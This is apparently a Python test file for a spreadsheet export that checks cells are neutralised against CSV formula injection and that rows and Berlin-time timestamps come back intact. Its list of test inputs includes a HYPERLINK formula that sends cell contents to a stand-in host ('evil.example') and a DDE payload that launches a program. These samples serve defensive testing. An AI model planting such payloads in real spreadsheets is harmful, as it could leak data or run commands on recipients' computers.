"""Tables for a spreadsheet: no cell is a formula, every program reads the same cells back."""

import csv
import io
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from brandmelder.report.sheet import BOM, disarmed, sheet

BERLIN = ZoneInfo("Europe/Berlin")
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"Klick")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "  =1",
    '"=1',
    "'=1",
    "＝1+1",
    "\u200b=1",
    "\ufeff=1",
    "%0A=1",
    "|calc",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_a_formula(text):
    assert disarmed(text).startswith("'")


@pytest.mark.parametrize("text", ["Nordfunk, schon wieder", "a=b", "1 - 2", "", "#nordfunk", "Ärger"])
def test_harmless_text_stays_as_it_is(text):
    assert disarmed(text) == text


@given(st.lists(st.lists(st.text(max_size=30), min_size=3, max_size=3), max_size=5), st.sampled_from([",", ";", "\t"]))
def test_whatever_was_written_every_row_keeps_its_cells(rows, delimiter):
    text = "".join(sheet(("a", "b", "c"), rows, zone=BERLIN, delimiter=delimiter))
    assert text.startswith(BOM)
    read = list(csv.reader(io.StringIO(text.removeprefix(BOM)), delimiter=delimiter))
    assert [len(row) for row in read] == [3] * (len(rows) + 1)
    for row in read[1:]:
        for cell in row:
            assert cell.lstrip(" '\"")[:1] not in set("=+-@\t\r|%") or cell.startswith("'")


def test_moments_stand_on_the_clock_of_the_zone_and_nothing_is_an_empty_cell():
    rows = [(datetime(2026, 12, 15, 19, 41, tzinfo=UTC), True, None, 7)]
    assert list(sheet(("at", "own", "x", "n"), rows, zone=BERLIN, bom=False)) == [
        '"at","own","x","n"\r\n',
        '"2026-12-15 20:41:00","1","","7"\r\n',
    ]
